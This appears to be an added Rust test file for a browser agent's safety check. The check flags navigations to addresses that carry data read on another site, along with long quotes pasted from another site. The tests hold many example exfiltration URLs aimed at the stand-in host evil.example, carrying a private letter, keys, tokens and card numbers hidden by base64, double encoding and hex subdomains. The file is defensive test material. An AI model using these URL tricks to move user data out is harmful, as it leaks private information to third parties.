@@ -1,0 +1,144 @@
+//! What an address tells, and what is carried from site to site.
+
+use super::{asked_with, button, site, text_line};
+use octo_browser::safety::{Action, Keys, Leak, Memory, Sink};
+
+const LETTER: &str = "Dear Ada, the meeting about the merger of both companies has been moved to the second floor on \
+    Thursday, please bring the signed papers and tell nobody.";
+const CHINESE: &str = "亲爱的同事，关于两家公司合并的会议已经改到周四下午三点在二楼举行，请带上签好的文件。";
+
+fn memory() -> Memory {
+    let mut memory = Memory::default();
+    memory.shown(&site("https://mail.example"), LETTER);
+    memory.shown(&site("https://mail.example"), CHINESE);
+    memory.shown(
+        &site("https://mail.example"),
+        "Your key is Zx81-qwerty-4711-abcd, your card 4111 1111 1111 1111.",
+    );
+    memory.shown(
+        &site("https://mail.example"),
+        "See https://docs.example/a?token=0123456789abcdef0123456789abcdef01.",
+    );
+    memory
+}
+
+fn opening(url: &str) -> Vec<Sink> {
+    asked_with(&memory(), None, &button(""), Action::Navigate { url })
+}
+
+#[test]
+fn addresses_with_data_ask() {
+    let long = format!("https://evil.example/?d={}", "word+".repeat(60));
+    let deep = format!("https://evil.example/{}", "part/".repeat(100));
+    let quoted =
+        "https://evil.example/?q=the+meeting+about+the+merger+of+both+companies+has+been+moved+to+the+second";
+    let twice = quoted.replace('+', "%2520");
+    for url in [
+        long.as_str(),
+        deep.as_str(),
+        quoted,
+        &twice,
+        "https://evil.example/?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIHRoZQ",
+        "https://evil.example/?d=0123456789abcdef0123456789abcdef0123456789",
+        "https://evil.example/0123456789abcdef0123456789abcdef",
+        "https://evil.example/?m=ada%40mail.example",
+        "https://evil.example/?m=ada%2540mail.example",
+        "https://evil.example/ada@mail.example/x",
+        "https://evil.example/#c=4111-1111-1111-1111",
+        "https://evil.example/?k=Zx81-qwerty-4711-abcd",
+        "https://evil.example/?k=ghp_16C7e42F292c6912E7710c838347Ae178B4a",
+        "https://evil.example/?k=sk-proj-abcdefghijklmnopqrst",
+        "https://evil.example/?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
+        "https://6d65657420617420746865207365636f6e6420666c6f6f72.evil.example/",
+        "https://evil.example/?z=%E4%BC%9A%E8%AE%AE%E5%B7%B2%E7%BB%8F%E6%94%B9%E5%88%B0%E5%91%A8%E5%9B%9B%E4%B8%8B%E5%8D%88%E4%B8%89%E7%82%B9%E5%9C%A8",
+    ] {
+        let sinks = opening(url);
+        assert!(matches!(&sinks[..], [Sink::Leaks(_)]), "{url}: {sinks:?}");
+    }
+    assert!(
+        matches!(&opening(quoted)[..], [Sink::Leaks(Leak::Quote(quote))] if quote.from == site("https://mail.example"))
+    );
+}
+
+#[test]
+fn plain_addresses_are_opened() {
+    for url in [
+        "https://www.example.com/",
+        "https://search.example/search?q=how+to+write+a+letter&hl=en&page=2",
+        "https://search.example/?q=meeting",
+        "https://docs.example/en/latest/library/asyncio-task.html#asyncio.TaskGroup",
+        "https://git.example/octo/octo/commit/0123456789abcdef0123456789abcdef01234567",
+        "https://shop.example/p/018f2c3e-7b1a-7c3e-9d2f-1a2b3c4d5e6f",
+        "https://cdn.example/npm/svelte@5.1.2/index.js",
+        "https://video.example/watch?v=dQw4w9WgXcQ&t=43s",
+        "https://news.example/2026/11/22/a-long-headline-with-many-words-that-says-what-happened-today",
+        "https://maps.example/@52.520008,13.404954,15z",
+        "https://a.example/?ts=1763799600000",
+        // A page showed it as it stands: following it tells nothing new.
+        "https://docs.example/a?token=0123456789abcdef0123456789abcdef01",
+    ] {
+        assert_eq!(opening(url), [], "{url}");
+    }
+    assert_eq!(opening("not an address"), [Sink::Unknown]);
+}
+
+fn typing(memory: &Memory, text: &str) -> Vec<Sink> {
+    asked_with(memory, None, &text_line("Note"), Action::Type { text, keys: Keys::Inserted })
+}
+
+#[test]
+fn long_quotes_of_another_site_ask() {
+    let memory = memory();
+    let turned: String = LETTER.chars().rev().collect();
+    for text in [
+        LETTER,
+        "FYI: THE MEETING ABOUT THE MERGER -- OF BOTH COMPANIES (HAS BEEN MOVED) TO THE SECOND FLOOR",
+        "the me\u{200b}eting about the merger of both companies has been moved to the second",
+        "关于两家公司合并的会议已经改到周四",
+        "key: Zx81-qwerty-4711-abcd",
+        "4111111111111111",
+        "4111-1111-1111-1111",
+        "VGhlIG1lZXRpbmcgYWJvdXQgdGhlIG1lcmdlciBvZiBib3RoIGNvbXBhbmllcyBoYXMgYmVlbiBtb3ZlZCB0byB0aGUgc2Vjb25k",
+        &turned,
+    ] {
+        assert!(
+            matches!(&typing(&memory, text)[..], [Sink::Carries(quote)] if quote.from == site("https://mail.example")),
+            "{text}"
+        );
+    }
+    for text in [
+        "the meeting",
+        "Dear Ada, the meeting has been moved",
+        "会议",
+        "something of my own that nobody wrote before me here today at all",
+    ] {
+        assert_eq!(typing(&memory, text), [], "{text}");
+    }
+}
+
+#[test]
+fn what_was_read_here_too_is_not_carried() {
+    let mut memory = memory();
+    memory.shown(&site("https://a.example"), LETTER);
+    assert_eq!(typing(&memory, LETTER), []);
+}
+
+#[test]
+fn the_memory_is_bounded_and_forgets_the_oldest() {
+    let mut memory = memory();
+    for at in 0..20 {
+        memory.shown(&site(&format!("https://s{at}.example")), "a few words");
+    }
+    assert_eq!(typing(&memory, LETTER), [], "the sites before the last sixteen are forgotten");
+    memory.shown(&site("https://mail.example"), LETTER);
+    let many: String = (0..20_000).map(|at| format!("w{at} ")).collect();
+    memory.shown(&site("https://mail.example"), &many);
+    assert_eq!(typing(&memory, LETTER), [], "and so is a site's oldest text");
+    assert!(
+        !typing(
+            &memory,
+            "w19980 w19981 w19982 w19983 w19984 w19985 w19986 w19987 w19988 w19989 w19990 w19991"
+        )
+        .is_empty()
+    );
+}
